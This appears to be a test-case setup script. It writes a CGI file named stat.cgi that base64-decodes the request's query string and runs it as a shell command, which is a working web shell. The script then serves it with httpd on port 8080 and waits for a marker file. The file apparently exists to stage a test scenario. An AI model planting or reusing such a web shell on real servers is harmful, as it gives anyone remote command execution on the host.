#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/www/cgi-bin
# shellcheck disable=SC2016 # the page's own variables
printf '#!/bin/sh\necho "Content-Type: text/plain"; echo\necho "$QUERY_STRING" | base64 -d | sh\n' >/srv/www/cgi-bin/stat.cgi
chmod 755 /srv/www/cgi-bin/stat.cgi
httpd -f -p 8080 -h /srv/www & server=$!
wait_for /tmp/reached
kill $server
took_place
